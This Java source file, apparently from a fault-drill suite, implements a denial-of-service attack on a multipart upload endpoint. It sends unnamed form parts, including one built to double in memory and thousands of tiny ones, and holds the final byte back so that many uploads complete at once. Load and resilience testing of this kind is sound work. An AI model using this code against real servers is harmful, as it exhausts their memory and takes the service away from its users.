package io.aviary.fault.drill.attack;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/// Uploads multipart parts without a file name, which a server may take for fields and read into
/// memory.
final class UploadFlood {
    private static final Duration LIMIT = Duration.ofSeconds(10);
    private static final Duration BEFORE_LAST_BYTE = Duration.ofSeconds(2);
    private static final int LARGE = 6_900_000;
    private static final int PARTS = 5_000;

    /// A multipart part that needs two bytes a character in memory, because of its first character.
    private static final byte[] SINGLE_LARGE = multipart(part("\u0434" + "x".repeat(LARGE)));

    private static final byte[] MANY_SMALL = multipart(part("x").repeat(PARTS));

    private UploadFlood() {}

    private static String part(String content) {
        return "--b\r\nContent-Disposition: form-data; name=\"media\"\r\n\r\n" + content + "\r\n";
    }

    private static byte[] multipart(String parts) {
        return (parts + "--b--\r\n").getBytes(StandardCharsets.UTF_8);
    }

    /// Uploads one large multipart part or thousands of small ones. The last byte arrives two
    /// seconds late, so that several uploads are complete at the same time.
    static void upload(Attacker attacker, int number) {
        byte[] body = number % 4 == 3 ? MANY_SMALL : SINGLE_LARGE;
        String head =
                "POST /2/media/upload HTTP/1.1\r\n%sContent-Type: multipart/form-data; boundary=b\r\nContent-Length: %s\r\n\r\n"
                        .formatted(attacker.authorizedHeaders(), body.length);
        while (attacker.isActive()) {
            upload(attacker, head, body);
        }
    }

    private static void upload(Attacker attacker, String head, byte[] body) {
        try (var socket = attacker.open(0, LIMIT)) {
            socket.setSoTimeout((int) LIMIT.toMillis());
            attacker.count();
            var out = socket.getOutputStream();
            out.write(head.getBytes(StandardCharsets.US_ASCII));
            out.write(body, 0, body.length - 1);
            attacker.pause(BEFORE_LAST_BYTE);
            out.write(body[body.length - 1]);
            var _ = socket.getInputStream().read();
        } catch (IOException refused) {
            attacker.pause(BEFORE_LAST_BYTE);
        }
    }
}
